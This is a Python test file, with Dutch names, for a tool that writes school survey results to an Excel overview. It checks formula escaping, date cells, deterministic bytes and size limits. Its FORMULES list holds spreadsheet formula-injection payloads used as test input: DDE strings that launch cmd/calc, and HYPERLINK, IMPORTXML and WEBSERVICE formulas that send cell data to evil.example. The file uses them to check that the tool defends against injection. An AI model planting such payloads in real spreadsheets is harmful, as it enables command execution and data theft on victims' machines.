"""overzicht.xlsx: alles staat er, als tekst of getal, nooit als formule; dezelfde scholen geven dezelfde bytes."""

import csv
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.utils.escape import unescape
from xlsxwriter.worksheet import Worksheet

from groephulp import batch, scholen, schrijf
from inzicht.batch.deel import Bestanden, Tellingen, Werker
from inzicht.batch.groepsuitvoer import Groepsuitvoer
from inzicht.batch.opbrengst import Wensen
from inzicht.bestanden.uitvoermap import Uitvoermap
from inzicht.modellen.wijzer import Wijzer

FORMULES = (
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!D2",
    '=HYPERLINK("https://evil.example?x="&A1,"klik")', '=IMPORTXML("https://evil.example","//a")', '=WEBSERVICE("https://evil.example")',
    "=2+5+cmd|' /C calc'!A0", 'DDE ("cmd";"/C calc";"x")', '=DDE("cmd";"/C calc";"x")', '=IMAGE("https://evil.example/x.png")',
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", " =1+1", "\t=1+1", "'=1+1", '"=1+1"', "=1+1\n=2+2", "=ÉÉN()", "{=1+1}", '=A1&"<b>"',
    "https://evil.example/x", "mailto:naam@evil.example", "internal:Fouten!A1", "external:c:\\x.xlsx", "1234", "1,5", "1e9", "TRUE", "#REF!",
    "_x0041_", "a_x000D_b", "<c><f>1</f></c>", "&lt;f&gt;", "]]>",
)  # fmt: skip


def _bladen(pad: Path) -> dict[str, list[list[Any]]]:
    boek = openpyxl.load_workbook(pad)
    return {blad.title: [list(rij) for rij in blad.iter_rows(values_only=True)] for blad in boek}


def _formules(pad: Path) -> list[str]:
    """Elke cel die een rekenblad zou uitrekenen of volgen: formules en links, en ruwe <f> in de XML."""
    boek = openpyxl.load_workbook(pad)
    cellen = [cel for blad in boek for rij in blad.iter_rows() for cel in rij if cel.data_type == "f" or cel.hyperlink]
    with zipfile.ZipFile(pad) as inhoud:
        ruw = [naam for naam in inhoud.namelist() if b"<f>" in inhoud.read(naam) or b"<hyperlink" in inhoud.read(naam)]
    return [f"{cel.parent.title}!{cel.coordinate}" for cel in cellen] + ruw


@pytest.fixture(scope="module")
def gemaakt(wijzer: Wijzer, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """De uitvoer van een groep van 12 scholen en twee kapotte bestanden."""
    map_ = tmp_path_factory.mktemp("excel")
    in_ = schrijf(map_ / "in", scholen(wijzer, 12))
    (in_ / "kapot.json").write_text("{", encoding="utf-8")
    (in_ / "=leeg.json").write_text("[]", encoding="utf-8")
    assert batch(in_, map_ / "uit") == 1
    return map_ / "uit"


def test_scholen_is_gelijk_aan_overzicht_csv(gemaakt: Path) -> None:
    blad = _bladen(gemaakt / "overzicht.xlsx")["Scholen"]
    tekst = (gemaakt / "overzicht.csv").read_text(encoding="utf-8-sig")
    rijen = list(csv.reader(tekst.splitlines(), delimiter=";"))
    als_tekst = [
        ["" if cel is None else f"{cel:.1f}".replace(".", ",") if kop.endswith("_score") else str(cel).removesuffix(" 00:00:00") for cel, kop in zip(rij, blad[0], strict=True)]
        for rij in blad[1:]
    ]  # fmt: skip
    assert blad[0] == rijen[0]
    assert als_tekst == rijen[1:]
    assert len(als_tekst) == 12


def test_een_datum_is_een_dag_om_op_te_filteren(wijzer: Wijzer, tmp_path: Path) -> None:
    bladen = scholen(wijzer, 3)
    dagen = ["2026-11-23", "1900-02-28", "0001-01-01"]
    for blad, dag in zip(bladen, dagen, strict=True):
        blad["datum"] = dag
    batch(schrijf(tmp_path / "in", bladen), tmp_path / "uit")
    scholenblad = openpyxl.load_workbook(tmp_path / "uit" / "overzicht.xlsx")["Scholen"]
    kolom = [cel.value for cel in scholenblad[1]].index("datum") + 1
    cellen = [scholenblad.cell(rij, kolom) for rij in (2, 3, 4)]
    assert [str(cel.value) for cel in cellen] == ["2026-11-23 00:00:00", "1900-02-28", "0001-01-01"]
    assert [cel.is_date for cel in cellen] == [True, False, False]
    assert cellen[0].number_format == "yyyy-mm-dd"


def test_vragen_toont_van_elke_school_elke_keuze(wijzer: Wijzer, gemaakt: Path) -> None:
    blad = _bladen(gemaakt / "overzicht.xlsx")["Vragen"]
    vragen = [(bank.id, vraag) for bank in wijzer.banken for vraag in bank.vragen]
    assert blad[2] == ["bestand", "school", *(vraag.vraag for _, vraag in vragen)]
    for rij, school in zip(blad[3:], scholen(wijzer, 12), strict=True):
        for cel, (bank, vraag) in zip(rij[2:], vragen, strict=True):
            kenmerken, antwoord = school["school"]["kenmerken"], school["antwoorden"][bank].get(vraag.id)
            keuze = antwoord["keuze"] if isinstance(antwoord, dict) else antwoord
            if not vraag.geldt(kenmerken) or (school["omvang"] == "kort" and not vraag.kern):
                assert cel == "·"
            elif isinstance(keuze, list):
                assert cel == "–".join(str(vraag.ladder.index(een) + 1) for een in keuze)
            else:
                namen = {"onbekend": "?", "nvt": "nvt", None: None}
                assert cel == (vraag.ladder.index(keuze) + 1 if isinstance(keuze, int) else namen[keuze])
    assert {"?", "nvt", "·", None} <= {cel for rij in blad[3:] for cel in rij}


def test_fouten_noemt_elk_geweigerd_bestand(gemaakt: Path) -> None:
    blad = _bladen(gemaakt / "overzicht.xlsx")["Fouten"]
    assert [rij[0] for rij in blad[1:]] == ["=leeg.json", "kapot.json"]
    assert all(rij[3] and rij[4] for rij in blad[1:])


def test_koppen_blijven_staan_en_zijn_te_filteren_en_de_cijfers_hebben_kleur(gemaakt: Path) -> None:
    boek = openpyxl.load_workbook(gemaakt / "overzicht.xlsx")
    assert {blad.title: blad.freeze_panes for blad in boek} == {
        "Scholen": "C2", "Vragen": "C4", "Belemmeringen": "C2", "Fouten": "C2",
    }  # fmt: skip
    for blad in boek:
        kop = 3 if blad.title == "Vragen" else 1
        laatste = openpyxl.utils.get_column_letter(blad.max_column)
        assert blad.auto_filter.ref == f"A{kop}:{laatste}{max(blad.max_row, kop + 1)}", blad.title
    kleuren = boek["Scholen"].conditional_formatting
    assert len([regel for een in kleuren for regel in een.rules if regel.type == "colorScale"]) == 3 * 3 + 2
    assert len(list(boek["Vragen"].conditional_formatting)) > 30


# --- formules ---------------------------------------------------------------------------------------


def test_een_formule_als_schoolnaam_blijft_tekst(wijzer: Wijzer, tmp_path: Path) -> None:
    namen = [naam for naam in FORMULES if "\n" not in naam]
    groep = scholen(wijzer, len(namen))
    for school, naam in zip(groep, namen, strict=True):
        school["school"]["naam"] = naam
    assert len(namen) >= 23
    assert batch(schrijf(tmp_path / "in", groep), tmp_path / "uit", dubbel="alle") == 0
    pad = tmp_path / "uit/overzicht.xlsx"
    assert _formules(pad) == []
    for naam in ("Scholen", "Vragen"):
        begin = 1 if naam == "Scholen" else 3
        gelezen = [unescape(rij[1]) for rij in _bladen(pad)[naam][begin:]]
        assert gelezen == namen, naam


def test_een_formule_die_er_wel_is_wordt_gezien(tmp_path: Path) -> None:
    boek = openpyxl.Workbook()
    blad = boek.active
    assert blad is not None
    blad["A1"] = "=1+1"
    blad["A2"] = "klik"
    blad["A2"].hyperlink = "https://evil.example"
    boek.save(tmp_path / "x.xlsx")
    assert _formules(tmp_path / "x.xlsx")[:2] == ["Sheet!A1", "Sheet!A2"]


def _schoolnamen_als_formule(wijzer: Wijzer, tmp_path: Path) -> list[str]:
    groep = scholen(wijzer, 3)
    for school, naam in zip(groep, ("=1+1", "https://evil.example/x", "1234"), strict=True):
        school["school"]["naam"] = naam
    batch(schrijf(tmp_path / "in", groep), tmp_path / "uit", uitvoer=["xlsx"])
    return _formules(tmp_path / "uit/overzicht.xlsx")


def test_wie_tekst_als_formule_zou_schrijven_valt_op(
    wijzer: Wijzer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def lek(blad: Worksheet, rij: int, kolom: int, tekst: str, vorm: Any = None) -> int:
        return int(blad.write_formula(rij, kolom, tekst if tekst.startswith("=") else "=1", vorm))

    monkeypatch.setattr(Worksheet, "write_string", lek)
    assert "Scholen!B2" in _schoolnamen_als_formule(wijzer, tmp_path)


def test_ook_zonder_die_eerste_muur_raadt_het_rekenblad_niets(
    wijzer: Wijzer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    echt = Worksheet.write_string

    def raad(blad: Worksheet, rij: int, kolom: int, tekst: str, vorm: Any = None) -> Any:
        monkeypatch.setattr(Worksheet, "write_string", echt)
        try:
            return blad.write(rij, kolom, tekst, vorm)
        finally:
            monkeypatch.setattr(Worksheet, "write_string", raad)

    monkeypatch.setattr(Worksheet, "write_string", raad)
    assert _schoolnamen_als_formule(wijzer, tmp_path) == []
    assert [rij[1] for rij in _bladen(tmp_path / "uit/overzicht.xlsx")["Scholen"][1:]][-1] == "1234"


# --- dezelfde bytes ---------------------------------------------------------------------------------


def _bytes(uit: Path) -> dict[str, bytes]:
    return {pad.name: pad.read_bytes() for pad in sorted(uit.iterdir())}


def test_dezelfde_scholen_geven_dezelfde_bytes(wijzer: Wijzer, tmp_path: Path) -> None:
    in_ = schrijf(tmp_path / "in", scholen(wijzer, 300))
    (in_ / "kapot.json").write_text("{", encoding="utf-8")
    batch(in_, tmp_path / "een")
    een = _bytes(tmp_path / "een")
    assert "overzicht.xlsx" in een
    for nummer, (zaad, zone, processen) in enumerate(
        (("0", "UTC", "1"), ("1", "Asia/Tokyo", "2"), ("2", "America/Lima", "3"))
    ):
        uit = tmp_path / f"uit{nummer}"
        omgeving = {**os.environ, "PYTHONHASHSEED": zaad, "TZ": zone, "LC_ALL": "C"}
        omgeving.pop("SOURCE_DATE_EPOCH", None)
        gedaan = subprocess.run(
            [sys.executable, "-W", "error", "-m", "inzicht", "batch", str(in_), "-u", str(uit), "-q", "--parallel", processen],
            env=omgeving, capture_output=True, check=False, umask=0o077 if nummer else 0o022,
        )  # fmt: skip
        assert gedaan.returncode == 1, gedaan.stderr.decode()
        assert _bytes(uit) == een, nummer


def test_de_volgorde_van_de_invoer_maakt_niets_uit(wijzer: Wijzer, tmp_path: Path) -> None:
    in_ = schrijf(tmp_path / "in", scholen(wijzer, 8))
    paden = [str(pad) for pad in sorted(in_.iterdir())]
    uit = []
    for nummer, rij in enumerate((paden, paden[::-1], paden[3:] + paden[:3])):
        subprocess.run(
            [sys.executable, "-m", "inzicht", "batch", *rij, "-u", str(tmp_path / str(nummer)), "-q"], check=True
        )
        uit.append(_bytes(tmp_path / str(nummer)))
    assert uit[0] == uit[1] == uit[2]


# --- grenzen ----------------------------------------------------------------------------------------


def _met_grens(
    wijzer: Wijzer, in_: Path, uit: Path, grens: int, *, overschrijf: bool = False
) -> tuple[list[str], list[str]]:
    """De zinnen en bestanden als een rekenblad hoogstens zoveel scholen heeft."""
    werker = Werker(wijzer, Wensen(None, jsonl=False, volledig=False, groep=True, xlsx=True))
    groep = Groepsuitvoer(wijzer, ("xlsx",), meeste=grens)
    namen = tuple(sorted(pad.name for pad in in_.iterdir()))
    with Uitvoermap(str(uit), overschrijf=overschrijf) as map_:
        map_.bereid_voor(groep.namen)
        groep.begin(map_)
        leden = werker.verwerk(Bestanden(str(in_), namen)).leden
        groep.begin_scholen(len(leden))
        for lid in leden:
            groep.neem_op(werker.verwerk(Tellingen(((lid.wie.bestand, lid.telling, lid.som),))))
        zinnen = groep.rond_af()
        map_.rond_af()
    return zinnen, sorted(pad.name for pad in uit.iterdir())


@pytest.mark.parametrize(("aantal", "gemaakt"), [(5, ["overzicht.xlsx"]), (6, [])])
def test_boven_de_grens_komt_er_geen_rekenblad_en_dat_wordt_gezegd(
    wijzer: Wijzer, tmp_path: Path, aantal: int, gemaakt: list[str]
) -> None:
    zinnen, namen = _met_grens(wijzer, schrijf(tmp_path / "in", scholen(wijzer, aantal)), tmp_path / "uit", 5)
    assert namen == gemaakt
    assert [zin for zin in zinnen if "xlsx" in zin] == (
        []
        if gemaakt
        else ["overzicht.xlsx is niet gemaakt: dat kan tot 5 scholen. Alles staat in de andere bestanden."]
    )


def test_zonder_goede_school_is_er_toch_een_rekenblad(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "in/kapot.json").write_text("{", encoding="utf-8")
    assert batch(tmp_path / "in", tmp_path / "uit", uitvoer=["xlsx"]) == 1
    assert sorted(pad.name for pad in (tmp_path / "uit").iterdir()) == ["fouten.csv", "overzicht.xlsx"]
    bladen = _bladen(tmp_path / "uit/overzicht.xlsx")
    assert (len(bladen["Scholen"]), len(bladen["Fouten"])) == (1, 2)


def test_een_volle_schijf_is_een_bewaarfout_en_laat_niets_achter(
    wijzer: Wijzer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno

    from inzicht.fouten import BewaarFout
    from inzicht.verslag.groep import rekenblad

    def vol(*_: object) -> None:
        raise OSError(errno.ENOSPC, "vol")

    monkeypatch.setattr(rekenblad.Boek, "sluit", vol)
    in_ = schrijf(tmp_path / "in", scholen(wijzer, 2))
    with pytest.raises(BewaarFout, match="de schijf is vol"):
        batch(in_, tmp_path / "uit")
    assert list((tmp_path / "uit").iterdir()) == []


def test_wie_geen_rekenblad_vraagt_laadt_het_ook_niet(wijzer: Wijzer, tmp_path: Path) -> None:
    in_ = schrijf(tmp_path / "in", scholen(wijzer, 1))
    code = (
        "import json, sys; from inzicht.opdrachten.batch import opdracht\n"
        f"opdracht([{str(in_)!r}], {str(tmp_path / 'uit')!r}, uitvoer=['csv,jsonl'], stil=True)\n"
        "print(json.dumps([m for m in ('xlsxwriter', 'jinja2') if m in sys.modules]))"
    )
    gedaan = subprocess.run([sys.executable, "-c", code], capture_output=True, check=True)
    assert json.loads(gedaan.stdout) == []


def test_ook_met_stil_wordt_gezegd_dat_het_rekenblad_er_niet_is(
    wijzer: Wijzer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    from inzicht.batch import groepsuitvoer

    monkeypatch.setattr(groepsuitvoer.Groepsuitvoer.__init__, "__kwdefaults__", {"minimaal": 5, "meeste": 2})
    batch(schrijf(tmp_path / "in", scholen(wijzer, 3)), tmp_path / "uit")
    assert capfd.readouterr().err == (
        "overzicht.xlsx is niet gemaakt: dat kan tot 2 scholen. Alles staat in de andere bestanden.\n"
    )
    assert sorted(pad.name for pad in (tmp_path / "uit").iterdir()) == [
        "fouten.csv", "groepsverslag.html", "groepsverslag.md", "overzicht.csv", "uitslagen.jsonl",
    ]  # fmt: skip


def test_een_oud_rekenblad_dat_blijft_staan_wordt_genoemd(wijzer: Wijzer, tmp_path: Path) -> None:
    in_ = schrijf(tmp_path / "in", scholen(wijzer, 3))
    uit = tmp_path / "uit"
    assert _met_grens(wijzer, in_, uit, 3) == ([], ["overzicht.xlsx"])
    oud = (uit / "overzicht.xlsx").read_bytes()
    zinnen, _ = _met_grens(wijzer, in_, uit, 2, overschrijf=True)
    assert zinnen == ["overzicht.xlsx is niet gemaakt: dat kan tot 2 scholen. Wat er staat, is van een eerdere keer."]
    assert (uit / "overzicht.xlsx").read_bytes() == oud


def test_de_grens_is_twintigduizend_scholen() -> None:
    from inzicht.verslag.groep.rekenblad import MEESTE_SCHOLEN
    from inzicht.verslag.groep.telling import RUIMTE

    assert (MEESTE_SCHOLEN, RUIMTE) == (20_000, 200)
